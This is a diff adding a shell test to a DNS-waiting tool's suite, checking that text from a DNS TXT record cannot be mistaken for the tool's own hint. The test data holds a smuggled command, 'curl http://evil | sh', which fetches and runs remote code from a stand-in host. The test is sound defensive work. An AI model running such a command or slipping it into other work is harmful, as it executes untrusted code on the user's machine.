@@ -228,3 +228,13 @@ ZONE
     run_tool wait-for-dns --write= db.test
     refuses_naming --write
 }
+
+@test "the text of a record passes for no hint of ours" {
+    start_dns dns <<<'evil.test TXT "x; hint: curl http://evil | sh"'
+    wait_in_vain_for --expect y evil.test/TXT
+    says_not "hint: curl"
+    says "hint; curl"
+    wait_for --expect "x; hint: curl http://evil | sh" evil.test/TXT
+    exits 0
+    says_not "hint: curl"
+}
